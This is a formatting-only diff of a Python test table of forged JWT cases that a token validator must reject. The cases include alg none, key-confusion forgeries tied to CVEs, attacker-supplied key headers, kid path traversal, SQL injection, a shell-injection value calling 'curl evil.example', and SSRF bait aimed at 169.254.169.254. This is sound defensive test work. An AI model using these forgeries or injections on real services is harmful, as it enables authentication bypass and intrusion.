@@ -188,8 +188,13 @@ def _signature(change: Callable[[bytes], bytes]) -> Build:
 
 
 def _id_token(f: Forger) -> str:
-    return f.token(header={"typ": "JWT"}, aud=f.claims["client_id"], nonce="n-0S6_WzA2Mj",
-                   at_hash="HK6E_P6Dh8Y93mRNtsDB1Q", auth_time=_now())
+    return f.token(
+        header={"typ": "JWT"},
+        aud=f.claims["client_id"],
+        nonce="n-0S6_WzA2Mj",
+        at_hash="HK6E_P6Dh8Y93mRNtsDB1Q",
+        auth_time=_now(),
+    )
 
 
 def _other_typ(f: Forger) -> str:
@@ -207,93 +212,131 @@ SPKI = serialization.PublicFormat.SubjectPublicKeyInfo
 
 HOSTILE: dict[str, Attack] = {
     # RFC 8725 section 2.1 / 3.1: the algorithm comes from the key, never from the token.
-    **{f"alg {v}, signature left empty (CVE-2015-9235)": Attack(_unsigned_alg(v), NOT_THREE)
-       for v in ("none", "None", "NONE", "nOnE")},
-    **{f"alg {v} over the issuer's real signature": Attack(_real_signature_alg(v), UNSUPPORTED_ALG)
-       for v in ("none", "None", "NONE", "nOnE")},
-    "alg HS256 keyed with the RSA public key PEM (CVE-2016-10555)":
-        Attack(_hmac(lambda f: _public(f, PEM, SPKI)), UNSUPPORTED_ALG),
-    "alg HS256 keyed with the PKCS#1 public key PEM (CVE-2017-11424)":
-        Attack(_hmac(lambda f: _public(f, PEM, serialization.PublicFormat.PKCS1)), UNSUPPORTED_ALG),
-    "alg HS256 keyed with the public key in OpenSSH format (CVE-2022-29217)":
-        Attack(_hmac(lambda f: _public(f, serialization.Encoding.OpenSSH, serialization.PublicFormat.OpenSSH)),
-               UNSUPPORTED_ALG),
-    "alg HS256 keyed with the public key PEM behind whitespace (CVE-2023-48223)":
-        Attack(_hmac(lambda f: b"  " + _public(f, PEM, SPKI)), UNSUPPORTED_ALG),
-    "alg HS256 keyed with the PEM without its final newline":
-        Attack(_hmac(lambda f: _public(f, PEM, SPKI).rstrip(b"\n")), UNSUPPORTED_ALG),
-    "alg HS256 keyed with the public key DER":
-        Attack(_hmac(lambda f: _public(f, serialization.Encoding.DER, SPKI)), UNSUPPORTED_ALG),
-    "alg HS256 keyed with the published JWK as JSON":
-        Attack(_hmac(lambda f: json.dumps(_public_jwk(f)).encode()), UNSUPPORTED_ALG),
+    **{
+        f"alg {v}, signature left empty (CVE-2015-9235)": Attack(_unsigned_alg(v), NOT_THREE)
+        for v in ("none", "None", "NONE", "nOnE")
+    },
+    **{
+        f"alg {v} over the issuer's real signature": Attack(_real_signature_alg(v), UNSUPPORTED_ALG)
+        for v in ("none", "None", "NONE", "nOnE")
+    },
+    "alg HS256 keyed with the RSA public key PEM (CVE-2016-10555)": Attack(
+        _hmac(lambda f: _public(f, PEM, SPKI)), UNSUPPORTED_ALG
+    ),
+    "alg HS256 keyed with the PKCS#1 public key PEM (CVE-2017-11424)": Attack(
+        _hmac(lambda f: _public(f, PEM, serialization.PublicFormat.PKCS1)), UNSUPPORTED_ALG
+    ),
+    "alg HS256 keyed with the public key in OpenSSH format (CVE-2022-29217)": Attack(
+        _hmac(lambda f: _public(f, serialization.Encoding.OpenSSH, serialization.PublicFormat.OpenSSH)), UNSUPPORTED_ALG
+    ),
+    "alg HS256 keyed with the public key PEM behind whitespace (CVE-2023-48223)": Attack(
+        _hmac(lambda f: b"  " + _public(f, PEM, SPKI)), UNSUPPORTED_ALG
+    ),
+    "alg HS256 keyed with the PEM without its final newline": Attack(
+        _hmac(lambda f: _public(f, PEM, SPKI).rstrip(b"\n")), UNSUPPORTED_ALG
+    ),
+    "alg HS256 keyed with the public key DER": Attack(
+        _hmac(lambda f: _public(f, serialization.Encoding.DER, SPKI)), UNSUPPORTED_ALG
+    ),
+    "alg HS256 keyed with the published JWK as JSON": Attack(
+        _hmac(lambda f: json.dumps(_public_jwk(f)).encode()), UNSUPPORTED_ALG
+    ),
     "alg HS256 keyed with the empty string": Attack(_hmac(lambda f: b""), UNSUPPORTED_ALG),
-    "alg HS384 keyed with the RSA public key PEM": Attack(_hmac(lambda f: _public(f, PEM, SPKI), "HS384"),
-                                                          UNSUPPORTED_ALG),
-    "alg HS512 keyed with the RSA public key PEM": Attack(_hmac(lambda f: _public(f, PEM, SPKI), "HS512"),
-                                                          UNSUPPORTED_ALG),
-    "alg PS256 signed by the issuer's own RSA key": Attack(lambda f: f.raw(f.header_bytes(alg="PS256"),
-                                                                           f.payload_bytes(), alg="PS256"),
-                                                           UNSUPPORTED_ALG),
-    "alg RS512 signed by the issuer's own RSA key": Attack(lambda f: f.raw(f.header_bytes(alg="RS512"),
-                                                                           f.payload_bytes(), alg="RS512"),
-                                                           UNSUPPORTED_ALG),
-    "alg ES256 under the issuer's kid, signed by the attacker": Attack(_by_attacker("ES256", attacker_ec),
-                                                                       ALG_MISMATCH),
-    "alg EdDSA under the issuer's kid, signed by the attacker": Attack(_by_attacker("EdDSA", attacker_ed25519),
-                                                                       ALG_MISMATCH),
-    "alg rs256 in lower case over the issuer's real signature": Attack(_real_signature_alg("rs256"),
-                                                                       UNSUPPORTED_ALG),
-    "alg with a trailing space over the issuer's real signature": Attack(_real_signature_alg("RS256 "),
-                                                                         UNSUPPORTED_ALG),
+    "alg HS384 keyed with the RSA public key PEM": Attack(
+        _hmac(lambda f: _public(f, PEM, SPKI), "HS384"), UNSUPPORTED_ALG
+    ),
+    "alg HS512 keyed with the RSA public key PEM": Attack(
+        _hmac(lambda f: _public(f, PEM, SPKI), "HS512"), UNSUPPORTED_ALG
+    ),
+    "alg PS256 signed by the issuer's own RSA key": Attack(
+        lambda f: f.raw(f.header_bytes(alg="PS256"), f.payload_bytes(), alg="PS256"), UNSUPPORTED_ALG
+    ),
+    "alg RS512 signed by the issuer's own RSA key": Attack(
+        lambda f: f.raw(f.header_bytes(alg="RS512"), f.payload_bytes(), alg="RS512"), UNSUPPORTED_ALG
+    ),
+    "alg ES256 under the issuer's kid, signed by the attacker": Attack(
+        _by_attacker("ES256", attacker_ec), ALG_MISMATCH
+    ),
+    "alg EdDSA under the issuer's kid, signed by the attacker": Attack(
+        _by_attacker("EdDSA", attacker_ed25519), ALG_MISMATCH
+    ),
+    "alg rs256 in lower case over the issuer's real signature": Attack(_real_signature_alg("rs256"), UNSUPPORTED_ALG),
+    "alg with a trailing space over the issuer's real signature": Attack(
+        _real_signature_alg("RS256 "), UNSUPPORTED_ALG
+    ),
     "alg as a list over the issuer's real signature": Attack(_real_signature_alg(["RS256"]), UNSUPPORTED_ALG),
     "alg null over the issuer's real signature": Attack(_real_signature_alg(None), UNSUPPORTED_ALG),
     "alg missing over the issuer's real signature": Attack(_real_signature_alg(DROP), UNSUPPORTED_ALG),
     # RFC 8725 section 3.10 and CVE-2018-0114: keys named or carried by the token are not trusted.
-    "jwk header with the attacker's key, signed by it (CVE-2018-0114)":
-        Attack(_by_attacker("RS256", attacker_rsa, jwk=_attacker_jwk()), "embedded keys are not accepted"),
-    "jwk header with the attacker's key and no kid, signed by it":
-        Attack(_by_attacker("RS256", attacker_rsa, kid=DROP, jwk=_attacker_jwk()), "embedded keys are not accepted"),
-    "jwk header with the issuer's own key, signed by the issuer":
-        Attack(lambda f: f.token(header={"jwk": _public_jwk(f)}), "embedded keys are not accepted"),
-    "jku to the attacker's key set (SSRF bait)":
-        Attack(_by_attacker("RS256", attacker_rsa, jku="http://169.254.169.254/jwks.json"),
-               "key URLs in the token are not accepted"),
-    "jku to the issuer's own JWKS, signed by the issuer":
-        Attack(lambda f: f.token(header={"jku": f"{f.claims['iss']}/.well-known/jwks.json"}),
-               "key URLs in the token are not accepted"),
-    "x5u to the attacker's certificate":
-        Attack(_by_attacker("RS256", attacker_rsa, x5u="https://evil.example/cert.pem"),
-               "certificate URLs in the token are not accepted"),
-    "x5c with the attacker's self-signed certificate, signed by its key":
-        Attack(lambda f: sign(f.header_bytes(x5c=[b64(attacker_certificate().public_bytes(
-            serialization.Encoding.DER))]), f.payload_bytes(), "RS256", attacker_rsa()),
-            "embedded certificates are not accepted"),
-    "x5t of the attacker's certificate under the issuer's kid, signed by the attacker":
-        Attack(lambda f: sign(f.header_bytes(x5t=b64(attacker_certificate().fingerprint(
-            hashes.SHA1()))),
-            f.payload_bytes(), "RS256", attacker_rsa()), BAD_SIGNATURE),
-    "x5t#S256 of the attacker's certificate in place of a kid":
-        Attack(lambda f: sign(f.header_bytes(kid=DROP, **{"x5t#S256": b64(attacker_certificate().fingerprint(
-            hashes.SHA256()))}),
-            f.payload_bytes(), "RS256", attacker_rsa()), NO_KID),
+    "jwk header with the attacker's key, signed by it (CVE-2018-0114)": Attack(
+        _by_attacker("RS256", attacker_rsa, jwk=_attacker_jwk()), "embedded keys are not accepted"
+    ),
+    "jwk header with the attacker's key and no kid, signed by it": Attack(
+        _by_attacker("RS256", attacker_rsa, kid=DROP, jwk=_attacker_jwk()), "embedded keys are not accepted"
+    ),
+    "jwk header with the issuer's own key, signed by the issuer": Attack(
+        lambda f: f.token(header={"jwk": _public_jwk(f)}), "embedded keys are not accepted"
+    ),
+    "jku to the attacker's key set (SSRF bait)": Attack(
+        _by_attacker("RS256", attacker_rsa, jku="http://169.254.169.254/jwks.json"),
+        "key URLs in the token are not accepted",
+    ),
+    "jku to the issuer's own JWKS, signed by the issuer": Attack(
+        lambda f: f.token(header={"jku": f"{f.claims['iss']}/.well-known/jwks.json"}),
+        "key URLs in the token are not accepted",
+    ),
+    "x5u to the attacker's certificate": Attack(
+        _by_attacker("RS256", attacker_rsa, x5u="https://evil.example/cert.pem"),
+        "certificate URLs in the token are not accepted",
+    ),
+    "x5c with the attacker's self-signed certificate, signed by its key": Attack(
+        lambda f: sign(
+            f.header_bytes(x5c=[b64(attacker_certificate().public_bytes(serialization.Encoding.DER))]),
+            f.payload_bytes(),
+            "RS256",
+            attacker_rsa(),
+        ),
+        "embedded certificates are not accepted",
+    ),
+    "x5t of the attacker's certificate under the issuer's kid, signed by the attacker": Attack(
+        lambda f: sign(
+            f.header_bytes(x5t=b64(attacker_certificate().fingerprint(hashes.SHA1()))),
+            f.payload_bytes(),
+            "RS256",
+            attacker_rsa(),
+        ),
+        BAD_SIGNATURE,
+    ),
+    "x5t#S256 of the attacker's certificate in place of a kid": Attack(
+        lambda f: sign(
+            f.header_bytes(kid=DROP, **{"x5t#S256": b64(attacker_certificate().fingerprint(hashes.SHA256()))}),
+            f.payload_bytes(),
+            "RS256",
+            attacker_rsa(),
+        ),
+        NO_KID,
+    ),
     # RFC 7515 section 4.1.11: a critical extension we do not understand refuses the token.
     "crit naming exp": Attack(_header(crit=["exp"], exp=0), CRIT),
     "crit naming an unknown extension": Attack(_header(crit=["x-ours"], **{"x-ours": True}), CRIT),
     "crit b64 false, an unencoded payload (RFC 7797)": Attack(_header(crit=["b64"], b64=False), CRIT),
     "crit as an empty list": Attack(_header(crit=[]), CRIT),
-    "zip DEF, a compressed payload (JWT bomb, CVE-2024-33664)": Attack(_header(zip="DEF"),
-                                                                       "compressed payloads are not supported"),
+    "zip DEF, a compressed payload (JWT bomb, CVE-2024-33664)": Attack(
+        _header(zip="DEF"), "compressed payloads are not supported"
+    ),
     "cty JWT, a nested token": Attack(_header(cty="JWT"), "nested tokens are not supported"),
     # kid is a lookup key, never a path or a query: every odd one is just unknown.
     "kid path traversal to /dev/null": Attack(_header(kid="../../../../../../dev/null"), UNKNOWN_KID),
-    "kid path traversal to the issuer's key file": Attack(lambda f: f.token(header={"kid": f"../keys/{f.kid}"}),
-                                                          UNKNOWN_KID),
+    "kid path traversal to the issuer's key file": Attack(
+        lambda f: f.token(header={"kid": f"../keys/{f.kid}"}), UNKNOWN_KID
+    ),
     "kid absolute path": Attack(_header(kid="/etc/passwd"), UNKNOWN_KID),
     "kid SQL injection": Attack(_header(kid="x' OR '1'='1"), UNKNOWN_KID),
     "kid UNION SELECT of a known secret": Attack(_header(kid="x' UNION SELECT 'secret' --"), UNKNOWN_KID),
     "kid shell injection": Attack(_header(kid="$(curl evil.example)|id;"), UNKNOWN_KID),
-    "kid with a NUL byte after the issuer's kid": Attack(lambda f: f.token(header={"kid": f.kid + "\x00"}),
-                                                         UNKNOWN_KID),
+    "kid with a NUL byte after the issuer's kid": Attack(
+        lambda f: f.token(header={"kid": f.kid + "\x00"}), UNKNOWN_KID
+    ),
     "kid URL (SSRF bait)": Attack(_header(kid="http://169.254.169.254/latest/meta-data/"), UNKNOWN_KID),
     "kid of 4000 characters": Attack(_header(kid="k" * 4000), UNKNOWN_KID),
     "kid of the issuer with a trailing space": Attack(lambda f: f.token(header={"kid": f.kid + " "}), UNKNOWN_KID),
@@ -304,8 +347,9 @@ HOSTILE: dict[str, Attack] = {
     "kid as a list holding the issuer's kid": Attack(lambda f: f.token(header={"kid": [f.kid]}), NO_KID),
     "kid as an object": Attack(_header(kid={"$ne": ""}), NO_KID),
     "kid missing": Attack(_header(kid=DROP), NO_KID),
-    "alg HS256 with kid /dev/null keyed with the empty string":
-        Attack(_hmac(lambda f: b"", kid="../../../../../../dev/null"), UNSUPPORTED_ALG),
+    "alg HS256 with kid /dev/null keyed with the empty string": Attack(
+        _hmac(lambda f: b"", kid="../../../../../../dev/null"), UNSUPPORTED_ALG
+    ),
     # RFC 8725 section 3.11 and RFC 9068 section 4: explicit typing against cross-JWT confusion.
     "typ JWT, a generic JWT": Attack(_header(typ="JWT"), WRONG_TYP),
     "typ missing": Attack(_header(typ=DROP), WRONG_TYP),
@@ -314,8 +358,9 @@ HOSTILE: dict[str, Attack] = {
     "typ with a trailing space": Attack(lambda f: f.token(header={"typ": f.typ + " "}), WRONG_TYP),
     "typ with a NUL byte": Attack(lambda f: f.token(header={"typ": f.typ + "\x00"}), WRONG_TYP),
     "typ under another media type": Attack(lambda f: f.token(header={"typ": "text/" + f.typ}), WRONG_TYP),
-    "typ with application/ twice": Attack(lambda f: f.token(header={"typ": "application/application/" + f.typ}),
-                                          WRONG_TYP),
+    "typ with application/ twice": Attack(
+        lambda f: f.token(header={"typ": "application/application/" + f.typ}), WRONG_TYP
+    ),
     "typ secevent+jwt, a security event token": Attack(_header(typ="secevent+jwt"), WRONG_TYP),
     "typ dpop+jwt, a DPoP proof": Attack(_header(typ="dpop+jwt"), WRONG_TYP),
     "typ as a number": Attack(_header(typ=1), WRONG_TYP),
@@ -325,16 +370,18 @@ HOSTILE: dict[str, Attack] = {
     "iss of another issuer": Attack(_claims(iss="https://evil.example"), WRONG_ISSUER),
     "iss with a trailing slash": Attack(_claims(iss=lambda f: f.claims["iss"] + "/"), WRONG_ISSUER),
     "iss in upper case": Attack(_claims(iss=lambda f: f.claims["iss"].upper()), WRONG_ISSUER),
-    "iss naming localhost for 127.0.0.1": Attack(_claims(iss=lambda f: f.claims["iss"].replace(
-        "127.0.0.1", "localhost")), WRONG_ISSUER),
+    "iss naming localhost for 127.0.0.1": Attack(
+        _claims(iss=lambda f: f.claims["iss"].replace("127.0.0.1", "localhost")), WRONG_ISSUER
+    ),
     "iss with ours as a prefix": Attack(_claims(iss=lambda f: f.claims["iss"] + ".evil.example"), WRONG_ISSUER),
     "iss with a path": Attack(_claims(iss=lambda f: f.claims["iss"] + "/tenant"), WRONG_ISSUER),
     "iss missing": Attack(_claims(iss=DROP), "token has no iss claim"),
     "iss as a list holding ours": Attack(_claims(iss=lambda f: [f.claims["iss"]]), "iss must be a string"),
     "iss null": Attack(_claims(iss=None), "iss must be a string"),
     "aud of another API": Attack(_claims(aud="billing-api"), WRONG_AUDIENCE),
-    "aud of the other kind of our tokens": Attack(_claims(aud=lambda f: "api" if f.claims["aud"] != "api"
-                                                          else f.claims["iss"]), WRONG_AUDIENCE),
+    "aud of the other kind of our tokens": Attack(
+        _claims(aud=lambda f: "api" if f.claims["aud"] != "api" else f.claims["iss"]), WRONG_AUDIENCE
+    ),
     "aud in upper case": Attack(_claims(aud=lambda f: f.claims["aud"].upper()), WRONG_AUDIENCE),
     "aud with a trailing space": Attack(_claims(aud=lambda f: f.claims["aud"] + " "), WRONG_AUDIENCE),
     "aud list without ours": Attack(_claims(aud=["billing-api", "admin-api"]), WRONG_AUDIENCE),
@@ -344,12 +391,14 @@ HOSTILE: dict[str, Attack] = {
     "aud null": Attack(_claims(aud=None), BAD_AUD),
     "aud missing": Attack(_claims(aud=DROP), "token has no aud claim"),
     # Time claims (RFC 7519 section 4.1.4-4.1.6): numbers of seconds, checked with a small leeway.
-    "expired an hour ago": Attack(_claims(exp=lambda f: _now() - 3600, iat=lambda f: _now() - 4500),
-                                  "token has expired"),
+    "expired an hour ago": Attack(
+        _claims(exp=lambda f: _now() - 3600, iat=lambda f: _now() - 4500), "token has expired"
+    ),
     "expired just beyond the leeway": Attack(_claims(exp=lambda f: _now() - 45), "token has expired"),
     "nbf an hour ahead": Attack(_claims(nbf=lambda f: _now() + 3600), "token is not valid yet"),
-    "iat an hour ahead": Attack(_claims(iat=lambda f: _now() + 3600, exp=lambda f: _now() + 7200),
-                                "token was issued in the future"),
+    "iat an hour ahead": Attack(
+        _claims(iat=lambda f: _now() + 3600, exp=lambda f: _now() + 7200), "token was issued in the future"
+    ),
     "exp as a string": Attack(_claims(exp=lambda f: str(f.claims["exp"])), "exp must be a NumericDate"),
     "iat as a string": Attack(_claims(iat=lambda f: str(f.claims["iat"])), "iat must be a NumericDate"),
     "nbf as a string": Attack(_claims(nbf=lambda f: str(f.claims["iat"])), "nbf must be a NumericDate"),
@@ -361,73 +410,92 @@ HOSTILE: dict[str, Attack] = {
     "exp negative": Attack(_claims(exp=-1), "exp must be a NumericDate"),
     "exp 10**30": Attack(_claims(exp=10**30), "exp must be a NumericDate"),
     "exp 2**53 + 1, past exact JSON integers": Attack(_claims(exp=2**53 + 1), "exp must be a NumericDate"),
-    "exp 1e400, infinity by overflow": Attack(_raw_payload(lambda f: _claims_raw(f, exp=b"1e400")),
-                                              "exp must be a NumericDate"),
+    "exp 1e400, infinity by overflow": Attack(
+        _raw_payload(lambda f: _claims_raw(f, exp=b"1e400")), "exp must be a NumericDate"
+    ),
     "exp NaN": Attack(_raw_payload(lambda f: _claims_raw(f, exp=b"NaN")), NON_STANDARD_NUMBER),
     "exp Infinity": Attack(_raw_payload(lambda f: _claims_raw(f, exp=b"Infinity")), NON_STANDARD_NUMBER),
     "nbf -Infinity": Attack(_raw_payload(lambda f: _claims_raw(f, nbf=b"-Infinity")), NON_STANDARD_NUMBER),
-    "exp of 5000 digits (int parsing, CVE-2020-10735)": Attack(_raw_payload(lambda f: _claims_raw(
-        f, exp=b"9" * 5000)), PAYLOAD_NOT_JSON),
+    "exp of 5000 digits (int parsing, CVE-2020-10735)": Attack(
+        _raw_payload(lambda f: _claims_raw(f, exp=b"9" * 5000)), PAYLOAD_NOT_JSON
+    ),
     "exp missing": Attack(_claims(exp=DROP), "token has no exp claim"),
     "iat missing": Attack(_claims(iat=DROP), "token has no iat claim"),
     # RFC 8725 section 3.1 / RFC 7515 section 5.2: duplicate members are refused, not resolved.
-    "header with alg twice, none last": Attack(_raw_header(lambda f: f.header_bytes()[:-1] + b',"alg":"none"}'),
-                                               DUPLICATE),
-    "header with alg twice, none first": Attack(_raw_header(lambda f: b'{"alg":"none",' + f.header_bytes()[1:]),
-                                                DUPLICATE),
+    "header with alg twice, none last": Attack(
+        _raw_header(lambda f: f.header_bytes()[:-1] + b',"alg":"none"}'), DUPLICATE
+    ),
+    "header with alg twice, none first": Attack(
+        _raw_header(lambda f: b'{"alg":"none",' + f.header_bytes()[1:]), DUPLICATE
+    ),
     "header with kid twice": Attack(_raw_header(lambda f: f.header_bytes()[:-1] + b',"kid":"other"}'), DUPLICATE),
-    "header with typ twice, JWT last": Attack(_raw_header(lambda f: f.header_bytes()[:-1] + b',"typ":"JWT"}'),
-                                              DUPLICATE),
+    "header with typ twice, JWT last": Attack(
+        _raw_header(lambda f: f.header_bytes()[:-1] + b',"typ":"JWT"}'), DUPLICATE
+    ),
     "claims with sub twice": Attack(_raw_payload(lambda f: _append_member(f, '"sub":"admin"')), DUPLICATE),
     "claims with aud twice": Attack(_raw_payload(lambda f: _append_member(f, '"aud":"billing-api"')), DUPLICATE),
     "claims with exp twice": Attack(_raw_payload(lambda f: _append_member(f, '"exp":9999999999')), DUPLICATE),
-    "claims with scope twice, once by an escaped name": Attack(_raw_payload(lambda f: _append_member(
-        f, '"sc\\u006fpe":"admin"')), DUPLICATE),
+    "claims with scope twice, once by an escaped name": Attack(
+        _raw_payload(lambda f: _append_member(f, '"sc\\u006fpe":"admin"')), DUPLICATE
+    ),
     # RFC 7519 section 7.2: UTF-8 JSON objects only.
     "payload not UTF-8": Attack(_raw_payload(lambda f: _claims_raw(f, sub=b'"\xff\xfe"')), PAYLOAD_NOT_JSON),
-    "payload with an overlong UTF-8 sequence": Attack(_raw_payload(lambda f: _claims_raw(f, sub=b'"\xc0\xaf"')),
-                                                      PAYLOAD_NOT_JSON),
-    "payload with a UTF-8-encoded surrogate (CESU-8)": Attack(_raw_payload(lambda f: _claims_raw(
-        f, sub=b'"\xed\xa0\x80"')), PAYLOAD_NOT_JSON),
+    "payload with an overlong UTF-8 sequence": Attack(
+        _raw_payload(lambda f: _claims_raw(f, sub=b'"\xc0\xaf"')), PAYLOAD_NOT_JSON
+    ),
+    "payload with a UTF-8-encoded surrogate (CESU-8)": Attack(
+        _raw_payload(lambda f: _claims_raw(f, sub=b'"\xed\xa0\x80"')), PAYLOAD_NOT_JSON
+    ),
     # A \ud800 escape is ASCII, but decodes to a string no UTF-8 can carry (RFC 8259 section 8.2,
     # RFC 7493 section 2.1): it must be refused like bad bytes, not crash whatever encodes it next.
-    "payload with a lone surrogate escape": Attack(_raw_payload(lambda f: _claims_raw(f, sub=b'"\\ud800"')),
-                                                   PAYLOAD_NOT_JSON),
-    "header with a lone surrogate escape as the kid": Attack(_raw_header(lambda f: f.header_bytes(kid="@").replace(
-        b'"@"', b'"\\udc80"')), HEADER_NOT_JSON),
-    "header not UTF-8": Attack(_raw_header(lambda f: f.header_bytes(x="@").replace(b'"@"', b'"\xff"')),
-                               HEADER_NOT_JSON),
-    "payload with a UTF-8 BOM": Attack(_raw_payload(lambda f: b"\xef\xbb\xbf" + dumps(f.payload())),
-                                       PAYLOAD_NOT_JSON),
+    "payload with a lone surrogate escape": Attack(
+        _raw_payload(lambda f: _claims_raw(f, sub=b'"\\ud800"')), PAYLOAD_NOT_JSON
+    ),
+    "header with a lone surrogate escape as the kid": Attack(
+        _raw_header(lambda f: f.header_bytes(kid="@").replace(b'"@"', b'"\\udc80"')), HEADER_NOT_JSON
+    ),
+    "header not UTF-8": Attack(
+        _raw_header(lambda f: f.header_bytes(x="@").replace(b'"@"', b'"\xff"')), HEADER_NOT_JSON
+    ),
+    "payload with a UTF-8 BOM": Attack(_raw_payload(lambda f: b"\xef\xbb\xbf" + dumps(f.payload())), PAYLOAD_NOT_JSON),
     "header with a UTF-8 BOM": Attack(_raw_header(lambda f: b"\xef\xbb\xbf" + f.header_bytes()), HEADER_NOT_JSON),
-    "payload with data after the object": Attack(_raw_payload(lambda f: dumps(f.payload()) + b'{"sub":"admin"}'),
-                                                 PAYLOAD_NOT_JSON),
-    "payload in single-quoted JSON5": Attack(_raw_payload(lambda f: dumps(f.payload()).replace(b'"', b"'")),
-                                             PAYLOAD_NOT_JSON),
+    "payload with data after the object": Attack(
+        _raw_payload(lambda f: dumps(f.payload()) + b'{"sub":"admin"}'), PAYLOAD_NOT_JSON
+    ),
+    "payload in single-quoted JSON5": Attack(
+        _raw_payload(lambda f: dumps(f.payload()).replace(b'"', b"'")), PAYLOAD_NOT_JSON
+    ),
     "payload is a JSON array": Attack(_raw_payload(lambda f: dumps([f.payload()])), PAYLOAD_NOT_OBJECT),
     "payload is a JSON number": Attack(_raw_payload(lambda f: b"1700000000"), PAYLOAD_NOT_OBJECT),
     "payload is a JSON string": Attack(_raw_payload(lambda f: b'"admin"'), PAYLOAD_NOT_OBJECT),
     "payload is JSON null": Attack(_raw_payload(lambda f: b"null"), PAYLOAD_NOT_OBJECT),
-    "header is a JSON array": Attack(_raw_header(lambda f: b"[" + f.header_bytes() + b"]"),
-                                     "token header is not a JSON object"),
-    "header nested 2500 arrays deep (stack exhaustion)": Attack(_raw_header(lambda f: _nested("[", "]")),
-                                                                HEADER_NOT_JSON),
-    "a claim nested 2500 arrays deep": Attack(_raw_payload(lambda f: _claims_raw(f, sub=_nested("[", "]"))),
-                                              PAYLOAD_NOT_JSON),
+    "header is a JSON array": Attack(
+        _raw_header(lambda f: b"[" + f.header_bytes() + b"]"), "token header is not a JSON object"
+    ),
+    "header nested 2500 arrays deep (stack exhaustion)": Attack(
+        _raw_header(lambda f: _nested("[", "]")), HEADER_NOT_JSON
+    ),
+    "a claim nested 2500 arrays deep": Attack(
+        _raw_payload(lambda f: _claims_raw(f, sub=_nested("[", "]"))), PAYLOAD_NOT_JSON
+    ),
     # RFC 7515 section 2 / RFC 4648 section 5: unpadded base64url, one spelling only.
     "signature padded with =": Attack(lambda f: f.token() + "==", NOT_THREE),
     "standard base64 alphabet (+ and /)": Attack(lambda f: _standard_alphabet(f.token()), NOT_THREE),
-    "signature with a non-canonical last character": Attack(_segments(lambda p: [p[0], p[1], _non_canonical(
-        p[2])]), NOT_CANONICAL),
+    "signature with a non-canonical last character": Attack(
+        _segments(lambda p: [p[0], p[1], _non_canonical(p[2])]), NOT_CANONICAL
+    ),
     "header segment of 4n+1 characters": Attack(_segments(lambda p: [_4n1(p[0]), p[1], p[2]]), NOT_CANONICAL),
-    "payload segment of 4n+1 characters, signed again": Attack(_segments(lambda p: [p[0], _4n1(p[1]), p[2]],
-                                                                         resign=True), NOT_CANONICAL),
+    "payload segment of 4n+1 characters, signed again": Attack(
+        _segments(lambda p: [p[0], _4n1(p[1]), p[2]], resign=True), NOT_CANONICAL
+    ),
     # RFC 7515 section 7.1: exactly three segments, and a signature that verifies.
     "two segments, the signature dropped": Attack(lambda f: f.token().rsplit(".", 1)[0], NOT_THREE),
     "one segment": Attack(lambda f: f.token().split(".")[1], NOT_THREE),
     "four segments": Attack(lambda f: f.token() + ".AAAA", NOT_THREE),
-    "five segments, a JWE": Attack(lambda f: ".".join([b64(b'{"alg":"dir","enc":"A128GCM"}'), "", "AAAA",
-                                                       f.token().split(".")[1], "AAAA"]), NOT_THREE),
+    "five segments, a JWE": Attack(
+        lambda f: ".".join([b64(b'{"alg":"dir","enc":"A128GCM"}'), "", "AAAA", f.token().split(".")[1], "AAAA"]),
+        NOT_THREE,
+    ),
     "empty payload segment": Attack(_segments(lambda p: [p[0], "", p[2]]), NOT_THREE),
     "only dots": Attack(lambda f: "..", NOT_THREE),
     "empty signature (CVE-2020-28042)": Attack(lambda f: f.token().rsplit(".", 1)[0] + ".", NOT_THREE),
@@ -437,6 +505,7 @@ HOSTILE: dict[str, Attack] = {
     "signature one byte long": Attack(_signature(lambda s: s + b"\x00"), BAD_SIGNATURE),
     "signature of zeros": Attack(_signature(lambda s: bytes(len(s))), BAD_SIGNATURE),
     "signature of one byte": Attack(_signature(lambda s: s[:1]), BAD_SIGNATURE),
-    "signed by the attacker's RSA key under the issuer's kid": Attack(_by_attacker("RS256", attacker_rsa),
-                                                                      BAD_SIGNATURE),
+    "signed by the attacker's RSA key under the issuer's kid": Attack(
+        _by_attacker("RS256", attacker_rsa), BAD_SIGNATURE
+    ),
 }
